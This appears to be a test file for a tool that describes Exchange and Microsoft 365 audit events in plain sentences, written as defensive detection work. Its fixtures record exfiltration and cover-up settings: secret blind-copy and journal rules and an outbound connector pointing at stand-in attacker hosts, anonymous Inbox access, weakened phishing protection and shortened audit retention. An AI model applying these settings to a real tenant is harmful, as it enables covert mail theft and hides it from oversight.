/** What cards say about mail: whole sentences, as a technician reads them. */
import { describe, expect, it } from "vitest"
import { describeAct } from "../../src/detect/describe-act.ts"
import type { SubjectKind } from "../../src/model/act.ts"
import type { AuditRecord } from "../../src/model/audit-record.ts"
import type { JsonObject } from "../../src/model/json.ts"
import { BEN, makeMailboxRecord, reading } from "../make/make-mailbox-record.ts"
import { makeContext, makeRecord, parameters } from "../make/make-record.ts"

const ADMIN = "admin@contoso.example"
const APP = "6a7b8c9d-1e2f-4a3b-8c4d-5e6f7a8b9c01"
const ORGANIZATION =
  "EURPR00A001.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/contoso.onmicrosoft.com"

const cmdlet = (Operation: string, named: Readonly<Record<string, string>>, changed: JsonObject = {}) =>
  makeRecord({
    Operation,
    UserId: ADMIN,
    ObjectId: named.Identity ?? named.Name ?? "",
    Parameters: parameters(named),
    ...changed,
  })
const told = (kind: SubjectKind, record: AuditRecord) => describeAct(record, kind, makeContext())

describe("describeAct() of mail", () => {
  it.each<[SubjectKind, AuditRecord, string]>([
    [
      "transport-rule",
      cmdlet("New-TransportRule", {
        Name: "Copy",
        BlindCopyTo: "drop@evil.example",
        SetAuditSeverity: "DoNotAudit",
      }),
      'admin@contoso.example made the mail-flow rule "Copy", which copies mail in secret to drop@evil.example outside the organization and leaves no trace in reports.',
    ],
    [
      "transport-rule",
      cmdlet("Enable-TransportRule", { Identity: "Copy" }),
      'admin@contoso.example switched on the mail-flow rule "Copy".',
    ],
    [
      "exchange-role",
      cmdlet("Add-RoleGroupMember", {
        Identity: `${ORGANIZATION}/Organization Management`,
        Member: `${ORGANIZATION}/ben`,
      }),
      'admin@contoso.example made ben a member of the role group "Organization Management".',
    ],
    [
      "exchange-role",
      cmdlet("New-ManagementRoleAssignment", { Role: "ApplicationImpersonation", User: BEN, Name: "sync" }),
      'admin@contoso.example gave ben@contoso.example the Exchange role "ApplicationImpersonation".',
    ],
    [
      "permission",
      cmdlet("Set-Mailbox", {
        Identity: "anna.berg@contoso.example",
        GrantSendOnBehalfTo: `${ORGANIZATION}/ben;carla`,
      }),
      "admin@contoso.example let ben, carla send mail on behalf of anna.berg@contoso.example.",
    ],
    [
      "permission",
      cmdlet("Add-MailboxFolderPermission", {
        Identity: "anna.berg@contoso.example:\\Inbox",
        User: "Anonymous",
        AccessRights: "Reviewer",
      }),
      'admin@contoso.example let anybody (even without an account) read the folder "Inbox" of anna.berg@contoso.example\'s mailbox (Reviewer).',
    ],
    [
      "permission",
      cmdlet("Remove-MailboxPermission", {
        Identity: "anna.berg@contoso.example",
        User: BEN,
        AccessRights: "FullAccess",
      }),
      "admin@contoso.example took away the right of ben@contoso.example on anna.berg@contoso.example's mailbox.",
    ],
    [
      "permission",
      makeMailboxRecord("MailItemsAccessed", {
        UserId: BEN,
        LogonType: 2,
        OperationProperties: reading("Bind"),
      }),
      "ben@contoso.example read mail in anna.berg@contoso.example's mailbox as delegate.",
    ],
    [
      "forwarding",
      cmdlet("Set-Mailbox", {
        Identity: "ben@contoso.example",
        ForwardingAddress: `${ORGANIZATION}/Kim Vega`,
        DeliverToMailboxAndForward: "True",
      }),
      "ben@contoso.example's mailbox was set to forward all mail to Kim Vega, which may be outside the organization, keeping a copy (by admin@contoso.example).",
    ],
    [
      "forwarding",
      cmdlet("Set-Mailbox", {
        Identity: "anna.berg@contoso.example",
        ForwardingSmtpAddress: "",
        DeliverToMailboxAndForward: "False",
      }),
      "anna.berg@contoso.example's mailbox was set to forward no mail any more (by admin@contoso.example).",
    ],
    [
      "mail-access",
      makeMailboxRecord("MailItemsAccessed", {
        UserId: BEN,
        LogonType: 2,
        OperationProperties: reading("Bind"),
      }),
      "ben@contoso.example read mail in anna.berg@contoso.example's mailbox as delegate.",
    ],
    [
      "mail-access",
      makeMailboxRecord("MailItemsAccessed", {
        AppId: "00000003-0000-0000-c000-000000000000",
        ClientAppId: "de8bc8b5-d9f9-48b1-a8ad-b748da725064",
        OperationCount: 12,
        OperationProperties: reading("Bind"),
      }),
      "Graph Explorer, signed in as anna.berg@contoso.example, read 12 messages in anna.berg@contoso.example's mailbox.",
    ],
    [
      "mail-access",
      makeMailboxRecord("HardDelete", {
        RecordType: 3,
        AffectedItems: [{ Subject: "Your password was changed" }],
      }),
      'anna.berg@contoso.example deleted mail for good in anna.berg@contoso.example\'s mailbox, among it "Your password was changed".',
    ],
    [
      "mail-protection",
      cmdlet("Remove-AntiPhishRule", { Identity: "Baseline" }),
      'admin@contoso.example removed anti-phishing protection "Baseline".',
    ],
    [
      "mail-protection",
      cmdlet("Set-SafeLinksPolicy", { Identity: "Baseline", EnableSafeLinksForEmail: "False" }),
      'admin@contoso.example weakened Safe Links protection "Baseline" (EnableSafeLinksForEmail is False).',
    ],
    [
      "mail-protection",
      cmdlet("Set-CASMailbox", { Identity: "anna.berg@contoso.example", ImapEnabled: "True" }),
      "admin@contoso.example switched IMAP on again for anna.berg@contoso.example's mailbox.",
    ],
    [
      "mail-protection",
      cmdlet("Set-HostedOutboundSpamFilterPolicy", { Identity: "Default", AutoForwardingMode: "On" }),
      "admin@contoso.example allowed automatic forwarding of mail to the outside (Default).",
    ],
    [
      "connector",
      cmdlet("New-OutboundConnector", {
        Name: "Relay",
        RecipientDomains: "*",
        SmartHosts: "mail.evil.example",
      }),
      'admin@contoso.example made the outbound mail connector "Relay" (through mail.evil.example).',
    ],
    [
      "connector",
      cmdlet("New-JournalRule", { Name: "Copy", JournalEmailAddress: "collector@mail-drop.example" }),
      'admin@contoso.example made the journal rule "Copy", which copies mail to collector@mail-drop.example.',
    ],
    [
      "export",
      makeRecord({
        Operation: "SearchExported",
        RecordType: 24,
        UserId: ADMIN,
        ObjectId: "Case 7_Export",
        Parameters: null,
      }),
      'admin@contoso.example exported what the search "Case 7" found.',
    ],
    [
      "quarantine",
      makeRecord({
        Operation: "QuarantineRelease",
        RecordType: 65,
        UserId: ADMIN,
        ObjectId: "",
        Parameters: null,
        ReleaseTo: BEN,
      }),
      "admin@contoso.example released a message from quarantine to ben@contoso.example.",
    ],
    [
      "restore",
      makeRecord({
        Operation: "RestoreTaskActivated",
        RecordType: 299,
        UserId: ADMIN,
        ObjectId: "",
        Parameters: null,
        ServiceType: "Exchange",
      }),
      "admin@contoso.example restored data of Exchange with Microsoft 365 Backup (restore task activated).",
    ],
    [
      "mailbox-audit",
      cmdlet("Set-Mailbox", { Identity: "anna.berg@contoso.example", AuditOwner: "" }),
      "admin@contoso.example stopped recording what the owner does in the mailbox of anna.berg@contoso.example.",
    ],
    [
      "mailbox-audit",
      cmdlet("Set-Mailbox", { Identity: "anna.berg@contoso.example", AuditLogAgeLimit: "1.00:00:00" }),
      "admin@contoso.example set mailbox auditing of anna.berg@contoso.example to keep its records for only 1 day.",
    ],
  ])("tells a %s plainly", (kind, record, sentence) => {
    expect(told(kind, record).sentence).toBe(sentence)
  })

  it("keys what an app read by the app, and what a person read by mailbox and person", () => {
    const app = makeMailboxRecord("MailItemsAccessed", { AppId: APP, OperationProperties: reading("Bind") })
    const delegate = makeMailboxRecord("SendAs", { UserId: BEN, LogonType: 2 })

    expect(told("mail-access", app).subject).toBe(`mail-access:app:${APP}`)
    expect(told("mail-access", app).object).toMatchObject({
      appId: APP,
      mailbox: "anna.berg@contoso.example",
    })
    expect(told("mail-access", delegate).subject).toBe(
      "mail-access:anna.berg@contoso.example:ben@contoso.example",
    )
  })

  it("names the folder, also where the record hides its path", () => {
    const folderOf = (changed: JsonObject) =>
      told("mail-access", makeMailboxRecord("MailItemsAccessed", changed)).changes.find(
        ({ what }) => what === "Folder",
      )?.after

    expect(folderOf({ Folders: [{ Path: "\\Inbox" }, { Path: "\\Sent Items" }] })).toBe(
      "\\Inbox, \\Sent Items",
    )
    expect(folderOf({ Item: { ParentFolder: { Name: "Contracts", Path: "Not Available" } } })).toBe(
      "Contracts",
    )
    expect(folderOf({ Item: [] })).toBeUndefined()
  })

  it("gives a fix what it needs to find the thing again", () => {
    const folder = cmdlet("Add-MailboxFolderPermission", {
      Identity: "anna.berg@contoso.example:\\Inbox",
      User: BEN,
      AccessRights: "Editor",
    })

    expect(told("permission", folder).object).toEqual({
      mailbox: "anna.berg@contoso.example",
      folder: "\\Inbox",
      user: BEN,
      accessRights: "Editor",
      kind: "Folder",
    })
    expect(
      told("transport-rule", cmdlet("Set-TransportRule", { Identity: "Copy", CopyTo: "x" })).object,
    ).toEqual({
      ruleName: "Copy",
      user: ADMIN,
    })
  })

  it("shows the policy and its rule as one thing", () => {
    const subjectOf = (operation: string) =>
      told("mail-protection", cmdlet(operation, { Identity: "Baseline" })).subject

    expect(subjectOf("Remove-SafeLinksPolicy")).toBe(subjectOf("Remove-SafeLinksRule"))
  })

  it("never lets text from outside become more than text", () => {
    const { sentence } = told(
      "transport-rule",
      cmdlet("New-TransportRule", { Name: "a\u202Eb\nc", CopyTo: "x" }),
    )

    expect(sentence).toContain("a[U+202E]b c")
  })
})
